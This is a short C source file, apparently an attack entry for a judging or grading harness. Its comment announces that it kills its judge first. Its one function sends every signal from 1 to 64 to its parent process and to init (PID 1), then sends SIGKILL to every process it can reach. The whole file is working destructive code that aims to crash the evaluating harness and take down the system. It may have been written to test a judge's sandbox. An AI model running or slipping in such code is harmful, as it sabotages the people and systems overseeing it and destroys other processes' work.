// SPDX-License-Identifier: GPL-2.0-only
/*
 * Kills everybody whom it may, its judge first.
 */
#include <signal.h>
#include <unistd.h>

#include "records.h"

#define ATTACK

static int attack(const char *path, size_t index, struct record *out)
{
	(void)path;
	(void)index;
	(void)out;
	int sig;

	for (sig = 1; sig < 65; sig++) {
		kill(getppid(), sig);
		kill(1, sig);
	}
	kill(-1, SIGKILL);
	return 0;
}

